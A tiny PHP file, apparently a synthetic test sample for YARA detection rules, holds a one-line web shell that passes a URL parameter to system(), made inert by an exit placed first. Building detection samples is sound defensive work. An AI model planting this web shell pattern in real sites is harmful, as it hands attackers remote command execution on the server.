<?php
// Vigil YARA test sample: synthetic; exit comes first, nothing below runs.
exit;
if (isset($_GET['cmd'])) {
    echo '<pre>';
    system($_GET['cmd']);
    echo '</pre>';
}
